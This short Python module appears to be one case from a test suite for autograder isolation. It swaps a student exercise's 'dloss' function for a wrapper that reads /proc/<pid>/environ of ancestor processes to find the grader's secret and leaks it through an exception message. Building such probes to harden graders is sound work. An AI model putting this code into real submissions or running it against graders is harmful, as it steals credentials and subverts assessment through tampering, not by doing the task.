"""Read /proc/<pid>/environ of every process above this worker (the grader holds the secret)."""
MODULE = "ex1_manual_gradients"
CLASS = "proc"
MODES = ("grade", "batch", "gradescope", "nbgrader")


def _atk_dloss(w, x, y, _orig=dloss):
    found = {}
    for pid, _ in _atk_ancestors():
        value = _atk_find_secret(_atk_read(f"/proc/{pid}/environ"))
        if value:
            found[pid] = value
    if found:
        raise RuntimeError(f"environ of {found}")
    return _orig(w, x, y)


dloss = _atk_dloss
